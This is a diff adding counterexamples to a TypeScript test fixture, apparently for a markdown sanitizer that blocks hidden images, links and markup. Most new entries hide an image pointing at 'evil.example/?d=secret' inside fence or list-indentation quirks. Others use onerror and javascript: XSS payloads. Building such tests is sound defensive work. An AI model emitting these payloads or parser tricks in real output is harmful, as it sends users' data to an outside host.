@@ -90,6 +90,25 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["links", "ftp://bank.example@evil.example/x"],
   ["markup", "`<a href=/x attributionsrc=//evil.example>x</a>`"],
   ["links", "[a]\n\n[a]: search:query=x"],
+  // A mark without white space indents nothing.
+  ["images", "Totals:\n\n2024![a](https://evil.example/?d=secret)"],
+  ["markup", "Totals:\n\n   -<img src=https://evil.example/x onerror=alert(1)>"],
+  ["links", "Totals:\n\n1234 [x](javascript:alert(1))"],
+  // To marked other marks may follow a closing fence, and a tab may not.
+  ["images", "```\nx\n```~\n![a](https://evil.example/?d=secret)"],
+  ["images", "~~~\nx\n~~~`\n![a](https://evil.example/?d=secret)"],
+  ["images", "```\nx\n```\t\n```\n![a](https://evil.example/?d=secret)"],
+  // A byte order mark before a fence makes it text.
+  ["images", "a\n\uFEFF```\n![a](https://evil.example/?d=secret)"],
+  // Which marks begin a list, and how far they indent, depends on the renderer.
+  ["images", "x\n-\t~~~\n\t![a](https://evil.example/?d=secret)"],
+  ["images", "x\n01. ```\n    ![a](https://evil.example/?d=secret)"],
+  ["images", "- \t```\n\t![a](https://evil.example/?d=secret)"],
+  ["images", "- a\n  \t~~~\n    ![a](https://evil.example/?d=secret)"],
+  ["images", "- a\n2) ```\n   ![a](https://evil.example/?d=secret)"],
+  ["images", "- a\n> ```\n> ![a](https://evil.example/?d=secret)"],
+  // A page that cuts white space off at the beginning sees another list.
+  ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
 ];
 
 /** The same, where a page shows no less than an event: code that is never closed is text. */
